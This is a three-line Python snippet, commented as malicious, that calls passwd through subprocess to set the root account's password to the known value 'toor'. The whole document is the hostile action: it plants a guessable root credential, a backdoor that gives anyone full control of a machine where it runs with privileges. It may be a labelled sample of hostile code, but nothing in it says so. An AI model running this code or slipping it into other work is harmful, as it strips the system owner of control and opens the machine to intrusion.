# Malicious: sets a known root password by feeding passwd through a pipe.
import subprocess

subprocess.run(["passwd", "root"], input="toor\ntoor\n", text=True)
